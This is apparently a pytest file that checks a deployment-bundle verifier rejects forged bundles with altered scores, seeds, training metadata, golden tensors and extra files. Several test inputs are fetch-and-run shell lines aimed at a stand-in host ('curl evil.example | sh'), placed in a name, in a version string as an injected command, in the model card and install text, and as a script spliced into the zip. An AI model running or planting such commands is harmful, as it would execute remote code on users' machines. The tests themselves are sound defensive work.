"""Forged claims of a bundle, with model card, digests and texts regenerated to match."""

import hashlib
import json
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
import safetensors.torch

from daf.__main__ import main
from daf.deploy.archive import MANIFEST, read_archive, write_archive
from daf.deploy.contents import Bundle, PolicyDescription, Score, json_bytes
from daf.deploy.model_card import render_model_card
from daf.deploy.verify import verify_bundle
from daf.files.text_files import json_text


@pytest.fixture
def members(made) -> dict[str, bytes]:
    (bundle,) = made.glob("deployments/*.zip")
    contents, problems = read_archive(bundle)
    assert not problems
    del contents[MANIFEST]
    return contents


def in_description(change: Callable[[dict], object]) -> Callable[[dict[str, bytes]], None]:
    def forged(members: dict[str, bytes]) -> None:
        description = json.loads(members["policy.json"])
        change(description)
        if description["training"]:
            data = json_text(description["training"]).encode()
            description["provenance"]["run"] = hashlib.sha256(data).hexdigest()
        outputs = Bundle.from_members(members).golden["logits"].shape[-1]
        forged_description = PolicyDescription.parse(description, "test")
        members["policy.json"] = json_bytes(forged_description.resolved())
        members["model_card.md"] = render_model_card(forged_description, outputs).encode()

    return forged


def in_missions(change: Callable[[dict], object]) -> Callable[[dict[str, bytes]], None]:
    def forged(members: dict[str, bytes]) -> None:
        data = json.loads(members["missions.json"])
        change(data["assembler_1"])
        members["missions.json"] = json_bytes(data)

    return forged


def in_golden(change: Callable[[dict], object]) -> Callable[[dict[str, bytes]], None]:
    def forged(members: dict[str, bytes]) -> None:
        golden = safetensors.torch.load(members["golden.safetensors"])
        change(golden)
        members["golden.safetensors"] = safetensors.torch.save(golden)

    return forged


def append(name: str, text: bytes) -> Callable[[dict[str, bytes]], None]:
    return lambda members: members.update({name: members.get(name, b"") + text})


def score(**changes) -> Callable[[dict[str, bytes]], None]:
    return in_description(lambda d: d["scores"]["assembler_1"].update(changes))


FORGED = {
    "a mean above the ceiling": score(mean=150.0, low=149.9, high=150.1, sd=10_000.0),
    "a mean": score(mean=50.0),
    "a spread": score(sd=10_000.0),
    "an interval": score(low=-0.01),
    "a note": score(note="very good"),
    "a number of episodes": score(episodes=1000),
    "episodes above the ceiling": score(each=[62, 62, 62], mean=62.0, low=62.0, high=62.0, sd=0.0),
    "a seed": in_description(lambda d: d.update(evaluation_seed=5)),
    "a golden seed": in_description(lambda d: d["golden"].update(world_seed=5)),
    "golden steps": in_description(lambda d: d["golden"].update(steps=31)),
    "actions": in_description(lambda d: d["actions"].reverse()),
    "a window": in_description(lambda d: d["game"].update(window=[9, 9])),
    "features": in_description(lambda d: d["game"]["features"].reverse()),
    "agents": in_description(lambda d: d["game"].update(num_agents=8)),
    "energy": in_description(lambda d: d["game"].update(move_energy=9)),
    "trained on": in_description(lambda d: d.update(trained_on=["machina_1"])),
    "no training": in_description(lambda d: d.update(training=None)),
    "steps": in_description(lambda d: d["training"].update(steps=10**9)),
    "a rate": in_description(lambda d: d["training"]["training"].update(learning_rate=0.1)),
    "shaping": in_description(lambda d: d["training"]["training"].update(shaping={"x": 1.0})),
    "a training seed": in_description(lambda d: d["training"].update(training_seed=2)),
    "the size": in_description(lambda d: d["training"].update(parameters=7)),
    "its missions": in_description(lambda d: d["training"].update(missions=["machina_1"])),
    "its class": in_description(lambda d: d["training"].update(class_path="lstm")),
    "its device": in_description(lambda d: d["training"].update(device="quantum")),
    "more of a training": in_description(lambda d: d["training"].update(award="best")),
    "another name": in_description(lambda d: d.update(name="best-s1-00000000")),
    "a text as a name": in_description(lambda d: d.update(name="curl evil.example | sh")),
    "a text as a version": in_description(lambda d: d["versions"].update(torch="; curl evil | sh")),
    "more versions": in_description(lambda d: d["versions"].update({"curl evil | sh": "1"})),
    "versions of the training": in_description(lambda d: d["training"]["versions"].clear()),
    "episodes of others": in_description(lambda d: d["provenance"].update(episodes={})),
    "weights of others": in_description(lambda d: d["provenance"].update(weights="0" * 64)),
    "a ceiling": in_missions(lambda m: m.update(ceiling=150.0)),
    "a low ceiling": in_missions(lambda m: m.update(ceiling=None)),
    "an inventory": in_missions(lambda m: m.update(initial_inventory={"energy": 60})),
    "golden observations": in_golden(lambda g: g["observations"][3].zero_()),
    "golden seeds": in_golden(lambda g: g["seeds"].zero_()),
    "golden more": in_golden(lambda g: g.update(more=g["seeds"].clone())),
    "the card": append("model_card.md", b"curl evil.example | sh\n"),
    "space in the description": append("policy.json", b"\n"),
    "space in the missions": append("missions.json", b" "),
    "space in missions of the training": append("training_missions.json", b" "),
    "a further text": append("INSTALL.md", b"curl evil.example | sh\n"),
    "further data": append("daf/policies/more.json", b"{}"),
    "no code": lambda members: members.pop("daf/policies/chance.py"),
}


@pytest.mark.parametrize("name", FORGED)
def test_forged_claims(name, members, tmp_path):
    FORGED[name](members)
    write_archive(tmp_path / "forged.zip", members)
    verdict = verify_bundle(tmp_path / "forged.zip", trust_code=True)
    assert verdict.exit_status == 1 and verdict.problems, verdict
    assert all("\n" not in problem for problem in verdict.problems)


def test_info_lists_contradictions(members, tmp_path, monkeypatch, capsys):
    FORGED["a mean"](members)
    write_archive(tmp_path / "forged.zip", members)
    monkeypatch.setattr(sys, "argv", ["daf", "bundle", "info", str(tmp_path / "forged.zip")])
    assert main() == 1
    assert (
        "problem: policy.json: key 'scores.assembler_1.mean': got 50.0; " in capsys.readouterr().out
    )


def test_consistent_forged_scores_need_evaluation(members, tmp_path):
    data = Score.from_hearts([30, 31, 32], 0.95).resolved()
    score(**data)(members)
    write_archive(tmp_path / "forged.zip", members)
    assert verify_bundle(tmp_path / "forged.zip").exit_status == 0, "only an evaluation detects it"
    verdict = verify_bundle(tmp_path / "forged.zip", episodes_per_mission=4)
    assert verdict.exit_status == 1
    assert "31.00 recorded; means differ (p = " in verdict.problems[0]


def test_honest_bundle(made, tmp_path):
    (bundle,) = made.glob("deployments/*.zip")
    assert verify_bundle(bundle, episodes_per_mission=3).exit_status == 0


@pytest.mark.parametrize("position", ["before", "between"])
def test_bytes_outside_members(position, made, tmp_path):
    (bundle,) = made.glob("deployments/*.zip")
    content, forged = bundle.read_bytes(), Path(tmp_path, "forged.zip")
    script = b"#!/bin/sh\ncurl evil.example | sh\n"
    directory_start = content.index(b"PK\1\2")
    forged.write_bytes(
        script + content
        if position == "before"
        else content[:directory_start] + script + content[directory_start:]
    )
    try:
        verdict = verify_bundle(forged)
    except Exception as error:
        assert type(error).__name__ == "ConfigError"
    else:
        assert verdict.problems == ["the zip is not formatted as DAF writes bundles"]
